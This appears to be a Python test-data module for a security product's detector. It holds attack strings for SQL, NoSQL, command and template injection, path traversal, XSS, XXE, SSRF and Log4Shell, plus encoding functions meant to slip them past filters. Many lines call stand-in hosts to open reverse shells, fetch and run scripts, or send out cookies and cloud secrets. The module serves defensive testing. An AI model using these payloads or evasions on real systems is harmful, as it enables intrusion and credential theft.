r"""Attack values by class, ways to disguise them, and harmless text that only looks like an attack.

Written from how the attacks work (CWE pages, OWASP cheat sheets, vendors' advisories), before the product's patterns were
read. The `HELD_OUT` halves were written together with the others; their misses were looked at only after tuning.
"""

from __future__ import annotations

import random
import re
from collections.abc import Callable
from urllib.parse import quote

__all__ = ["ATTACKS", "DISGUISES", "HELD_OUT_ATTACKS", "HELD_OUT_DISGUISES", "Disguise"]

Disguise = Callable[[random.Random, str], str]

ATTACKS: dict[str, tuple[str, ...]] = {
    "sql_injection": (
        "' OR '1'='1", "1 OR 1=1", "admin'--", "1' UNION SELECT username, password FROM users--", "1; DROP TABLE orders",
        "7 UNION ALL SELECT NULL,NULL,version()", "x' AND SLEEP(5)#", "1 AND (SELECT COUNT(*) FROM information_schema.tables) > 0",
        "'; WAITFOR DELAY '0:0:5'--", "1) OR (1=1", "' AND extractvalue(1, concat(0x7e, user()))-- -", "-1 UNION SELECT 1,@@version,3",
        "anna' AND 1=2 UNION SELECT card_number FROM cards--", "' OR pg_sleep(10)--", "1 ORDER BY 15--", '" OR ""="',
        "'; EXEC xp_cmdshell('whoami')--", "5 AND ASCII(SUBSTRING((SELECT database()),1,1))>64", "' OR 2>1 LIMIT 1 OFFSET 3#",
        "1'; UPDATE users SET role='admin' WHERE name='x",
    ),
    "nosql_injection": (
        '{"$ne": null}', '{"$gt": ""}', '{"$regex": "^a"}', '{"$where": "this.password.length > 3"}', "' || '1'=='1",
        '{"$nin": []}', "'; return true; var x='", '{"$or": [{}, {"a": 1}]}', "this.role == 'admin' || true", '{"$exists": true}',
    ),
    "command_injection": (
        "; cat /etc/passwd", "| id", "$(whoami)", "`uname -a`", "8.8.8.8 && ls -la /", "x; curl http://198.51.100.7/p.sh | sh",
        "a|nc 198.51.100.7 4444 -e /bin/sh", "& ping -c 5 127.0.0.1 &", "|| wget http://198.51.100.9/x -O /tmp/x", "; /bin/bash -i >& /dev/tcp/198.51.100.7/443 0>&1",
        "$(curl -s http://198.51.100.7/$(hostname))", "file.txt; rm -rf /tmp/*", "& type C:\\Windows\\win.ini", "| powershell -enc SQBFAFgA",
        "%0Acat%20/etc/shadow", "; sleep 10;", "x`sleep 5`",
    ),
    "path_traversal": (
        "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "/etc/shadow", "....//....//....//etc/hosts", "/var/www/../../etc/passwd",
        "file:///etc/passwd", "../../.ssh/id_rsa", "../../../proc/self/environ", "..;/..;/manager/html", "../../../../boot.ini",
        "/proc/self/cmdline", "../../WEB-INF/web.xml", "..%2f..%2f..%2fetc%2fpasswd", "../../../app/config/database.yml",
    ),
    "xss": (
        "<script>alert(1)</script>", "<img src=x onerror=alert(document.cookie)>", '"><svg onload=alert(1)>', "javascript:alert(document.domain)",
        "<body onload=fetch('//198.51.100.7/?c='+document.cookie)>", "'-alert(1)-'", "<iframe src=javascript:alert(1)>", '<a href="javascript:alert(1)">x</a>',
        "<input autofocus onfocus=alert(1)>", "<script src=//198.51.100.7/x.js></script>", '" onmouseover="alert(1)', "<details open ontoggle=alert(1)>",
        '<math><mi xlink:href="javascript:alert(1)">', "<video><source onerror=\"eval(atob('YWxlcnQoMSk='))\">", "</textarea><script>document.location='//198.51.100.9'</script>",
    ),
    "template_injection": (
        "{{7*7}}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "{{config.items()}}", "{{''.__class__.__mro__[1].__subclasses__()}}", "${T(java.lang.Runtime).getRuntime().exec('id')}",
        "{{request.application.__globals__}}", "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}", "*{T(java.lang.System).getenv()}",
        '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}', "{{_self.env.registerUndefinedFilterCallback('exec')}}", "{{constructor.constructor('return process')()}}",
        "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))",
    ),
    "xxe": (
        '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
        '<!DOCTYPE foo [<!ENTITY % ext SYSTEM "http://198.51.100.7/e.dtd"> %ext;]><foo/>',
        '<!DOCTYPE a SYSTEM "http://198.51.100.7/a.dtd"><a/>',
        '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]><d>&c;</d>',
        '<r xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></r>',
        '<!DOCTYPE x [<!ENTITY e PUBLIC "any" "php://filter/read=convert.base64-encode/resource=index.php">]><x>&e;</x>',
    ),
    "ssrf": (
        "http://169.254.169.254/latest/meta-data/iam/security-credentials/", "http://127.0.0.1:6379/", "http://localhost:8080/admin", "http://[::1]/", "http://10.0.0.5:9200/_cat/indices",
        "gopher://127.0.0.1:6379/_INFO", "http://metadata.google.internal/computeMetadata/v1/", "http://192.168.1.1/setup", "dict://127.0.0.1:11211/stats", "http://0.0.0.0:2375/containers/json",
        "http://2130706433/", "http://0x7f000001/", "http://127.1/", "http://172.17.0.1:2375/version", "http://user@127.0.0.1:22/", "file:///proc/net/tcp",
    ),
    "log4shell": (
        "${jndi:ldap://198.51.100.7:1389/a}", "${jndi:rmi://198.51.100.7/obj}", "${${lower:j}ndi:${lower:l}dap://198.51.100.7/x}", "${${::-j}${::-n}${::-d}${::-i}:dns://c.attacker.example}",
        "${jndi:${lower:l}${lower:d}a${lower:p}://198.51.100.7/a}", "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//198.51.100.7/a}", "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.attacker.example}",
        "${JNDI:LDAPS://198.51.100.7/b}",
    ),
}  # fmt: skip

HELD_OUT_ATTACKS: dict[str, tuple[str, ...]] = {
    "sql_injection": (
        "x') OR ('a'='a", "99 OR 'x' LIKE '%'", "1;SELECT pg_read_file('/etc/passwd')", "1 UNION DISTINCT SELECT table_name,2 FROM all_tables", "' HAVING 1=1--",
        "1 AND IF(1=1,BENCHMARK(5000000,MD5(1)),0)", "' || (SELECT password FROM members LIMIT 1) || '", "1'; INSERT INTO admins VALUES ('x','y');--", "'; SHUTDOWN--",
        "1 OR EXISTS(SELECT 1 FROM users WHERE name='root')", "' AND updatexml(1,concat(0x3a,version()),1)#", "1 RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))",
        "'=''or'", "1; ALTER TABLE users ADD x INT", "id=1 PROCEDURE ANALYSE()", "' union select load_file('/etc/passwd'),null -- -", "3 or true--", "') or sleep(4)='",
    ),
    "nosql_injection": (
        '{"$gte": ""}', '{"$not": {"$type": 10}}', '{"username": {"$in": ["admin", "root"]}, "password": {"$ne": 1}}', "1'; sleep(5000); var a='", '{"$expr": {"$function": {"body": "return 1"}}}',
        "admin' || 'a'=='a' //", '{"$eq": {"$ne": 0}}', '{"$lt": "~"}',
    ),
    "command_injection": (
        "report.pdf|cat /etc/hosts", "& net user hacker P4ss /add", "$(cat${IFS}/etc/passwd)", "x;python3 -c 'import os;os.system(\"id\")'", "`wget -qO- http://198.51.100.3/i`",
        "1;perl -e 'exec \"/bin/sh\"'", "| base64 -d <<< aWQ= | bash", "host.example; nslookup $(whoami).attacker.example", "&& certutil -urlcache -f http://198.51.100.3/a.exe a.exe", "{cat,/etc/passwd}",
        "; php -r 'system(\"id\");'", "|/usr/bin/id", "; ifconfig", "a;c'a't /etc/pass'w'd",
    ),
    "path_traversal": (
        "../../../../../../etc/group%00.png", "..%5c..%5c..%5cboot.ini", "/../../../root/.bash_history", "..././..././etc/passwd", "C:\\Windows\\System32\\drivers\\etc\\hosts", "../../../../var/log/auth.log",
        "images/../../../../etc/ssl/private/server.key", "\\\\198.51.100.7\\share\\x", "php://filter/convert.base64-encode/resource=config", "../.env", "../../.git/config", "..//..//..//etc//issue",
    ),
    "xss": (
        "<svg><animate onbegin=alert(1) attributeName=x>", '<img src=1 href=1 onerror="javascript:alert(1)">', '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">', "<marquee onstart=prompt(1)>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>", "<form><button formaction=javascript:alert(1)>go", "'><img src=x onerror=this.src='//198.51.100.3/?'+document.cookie>", "<embed src=javascript:alert(1)>",
        "<style>@import'javascript:alert(1)';</style>", "<keygen autofocus onfocus=confirm(1)>", "<script>new Image().src='//198.51.100.3/'+localStorage.token</script>", '"><a onclick=top[8680439..toString(30)](1)>', "data:text/html,<script>alert(1)</script>",
    ),
    "template_injection": (
        "{{9*'9'}}", "${{3*3}}", "@(1+2*3)", "{{self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read()}}", '${"freemarker.template.utility.Execute"?new()("id")}', "{{['id']|filter('system')}}",
        "{{lipsum.__globals__['os'].popen('id').read()}}", "__${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec('id').getInputStream()).next()}__::.x", "<%= system('id') %>", "{php}echo `id`;{/php}", "{{range.constructor(\"return global.process.mainModule.require('child_process')\")()}}",
        "%{(#_memberAccess['allowStaticMethodAccess']=true)(@java.lang.Runtime@getRuntime().exec('id'))}",
    ),
    "xxe": (
        "<!DOCTYPE r [<!ENTITY s SYSTEM 'expect://id'>]><r>&s;</r>",
        '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE order\n[\n<!ELEMENT order ANY >\n<!ENTITY ref SYSTEM "http://169.254.169.254/latest/user-data" >\n]>\n<order>&ref;</order>',
        '<!DOCTYPE a [<!ENTITY % f SYSTEM "file:///etc/hostname"><!ENTITY % d SYSTEM "ftp://198.51.100.3/x.dtd">%d;]><a/>',
        '<!DOCTYPE svg [<!ENTITY f SYSTEM "netdoc:/etc/passwd">]><svg><text>&f;</text></svg>',
    ),
    "ssrf": (
        "http://100.100.100.200/latest/meta-data/", "http://[::ffff:127.0.0.1]/", "http://0177.0.0.1/", "https://kubernetes.default.svc/api/v1/secrets", "http://127.0.0.1.nip.io/", "ldap://127.0.0.1:389/", "http://[fd00:ec2::254]/latest/",
        "http://192.168.0.23:8001/api", "http://169.254.170.2/v2/credentials", "tftp://127.0.0.1:69/x", "http://127.0.0.1#@shop.example/", "http://internal-api:8080@10.1.2.3/", "jar:http://127.0.0.1!/a", "http://2852039166/latest/meta-data/",
    ),
    "log4shell": (
        "${${upper:j}ndi:${upper:l}dap://198.51.100.3/z}", "${j${k8s:k5:-ND}i:ldap://198.51.100.3/z}", "${jndi:corba://198.51.100.3/z}", "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://198.51.100.3/z}",
        "${jn${lower:d}i:l${lower:d}ap://x.attacker.example/${java:version}}", "${${sys:q:-j}nd${sys:q:-i}:iiop://198.51.100.3/z}",
    ),
}  # fmt: skip


def _plain(_: random.Random, text: str) -> str:
    return text


def _percent(_: random.Random, text: str) -> str:
    return quote(text, safe="")


def _percent_all(_: random.Random, text: str) -> str:
    return "".join(f"%{octet:02x}" for octet in text.encode())


def _twice(rng: random.Random, text: str) -> str:
    return quote(_percent(rng, text), safe="")


def _fullwidth(_: random.Random, text: str) -> str:
    return "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c for c in text)


def _some_fullwidth(_: random.Random, text: str) -> str:
    return "".join(chr(ord(c) + 0xFEE0) if c in "'\"<>/.;|()=" else c for c in text)


def _mixed_case(rng: random.Random, text: str) -> str:
    return "".join(c.upper() if rng.random() < 0.5 else c.lower() for c in text)


def _sql_comments(_: random.Random, text: str) -> str:
    return re.sub(r"(?<=\w) (?=[\w(@])", "/**/", text)


def _sql_named_comments(rng: random.Random, text: str) -> str:
    return re.sub(r"(?<=\w) (?=[\w(@])", lambda _: f"/*{rng.choice('abcxyz')}{rng.randrange(99)}*/", text)


def _version_comments(_: random.Random, text: str) -> str:
    return re.sub(r"\b(union|select|drop|and|or|update)\b", r"/*!50000\1*/", text, flags=re.IGNORECASE)


def _odd_space(rng: random.Random, text: str) -> str:
    return re.sub(" ", lambda _: rng.choice(["\t", "\n", "\x0c", "  ", "\r\n"]), text)


def _plus(_: random.Random, text: str) -> str:
    return text.replace(" ", "\u00a0")


def _json_unicode(_: random.Random, text: str) -> str:
    return "".join(f"\\u{ord(c):04x}" for c in text)


def _iis_unicode(_: random.Random, text: str) -> str:
    return "".join(f"%u{ord(c):04x}" if not c.isalnum() else c for c in text)


def _entities(rng: random.Random, text: str) -> str:
    return "".join(rng.choice([f"&#{ord(c)};", f"&#x{ord(c):x};"]) if not c.isalnum() and c != " " else c for c in text)


def _padded_entities(_: random.Random, text: str) -> str:
    return "".join(f"&#x{ord(c):06x};" if c in "<>\"'():=/" else c for c in text)


def _named_entities(_: random.Random, text: str) -> str:
    for character, name in (("&", "amp"), ("<", "lt"), (">", "gt"), ('"', "quot")):
        text = text.replace(character, f"&{name};")
    return text


def _overlong(_: random.Random, text: str) -> str:
    return text.replace("/", "%c0%af").replace(".", "%c0%ae")


def _thrice(rng: random.Random, text: str) -> str:
    return quote(_twice(rng, text), safe="")


def _null_inside(_: random.Random, text: str) -> str:
    return text + "%00.jpg"


def _harmless_start(rng: random.Random, text: str) -> str:
    return rng.choice(["summer sale ", "report-7 ", "42 ", "anna "]) + text


def _line_start(_: random.Random, text: str) -> str:
    return "first line\nsecond line\n" + text + "\nlast line"


def _zero_width(_: random.Random, text: str) -> str:
    return re.sub(r"(?<=[a-z])(?=[a-z]{2}\b)", "\u200b", text)


_EVERY = frozenset(ATTACKS)
DISGUISES: dict[str, tuple[Disguise, frozenset[str]]] = {
    "as it is": (_plain, _EVERY),
    "percent-encoded once more": (_percent, _EVERY - {"xxe"}),
    "percent-encoded twice more": (_twice, _EVERY - {"xxe", "nosql_injection"}),
    "mixed case": (_mixed_case, frozenset({"sql_injection", "xss", "log4shell"})),
    "comments as spaces": (_sql_comments, frozenset({"sql_injection"})),
    "odd white space": (_odd_space, frozenset({"sql_injection", "xss", "command_injection"})),
    "fullwidth": (_fullwidth, frozenset({"sql_injection", "path_traversal", "xss"})),
    "IIS %u": (_iis_unicode, frozenset({"sql_injection", "xss", "path_traversal"})),
    "HTML entities": (_entities, frozenset({"xss"})),
    "JSON escapes in text": (_json_unicode, frozenset({"sql_injection", "xss", "path_traversal", "log4shell"})),
    "overlong UTF-8": (_overlong, frozenset({"path_traversal"})),
    "after harmless text": (_harmless_start, frozenset({"sql_injection", "xss", "command_injection", "log4shell", "template_injection"})),
}  # fmt: skip
HELD_OUT_DISGUISES: dict[str, tuple[Disguise, frozenset[str]]] = {
    "as it is": (_plain, _EVERY),
    "every octet percent-encoded": (_percent_all, _EVERY - {"xxe", "nosql_injection"}),
    "percent-encoded three times more": (_thrice, _EVERY - {"xxe", "nosql_injection"}),
    "fullwidth punctuation only": (_some_fullwidth, frozenset({"sql_injection", "path_traversal", "xss", "command_injection"})),
    "comments with text": (_sql_named_comments, frozenset({"sql_injection"})),
    "version comments": (_version_comments, frozenset({"sql_injection"})),
    "padded entities": (_padded_entities, frozenset({"xss"})),
    "named entities": (_named_entities, frozenset({"xss"})),
    "null octet and ending": (_null_inside, frozenset({"path_traversal", "xss"})),
    "between lines": (_line_start, frozenset({"sql_injection", "xss", "command_injection", "template_injection", "log4shell"})),
    "no-break spaces": (_plus, frozenset({"sql_injection"})),
    "zero-width characters": (_zero_width, frozenset({"sql_injection", "xss"})),
}  # fmt: skip
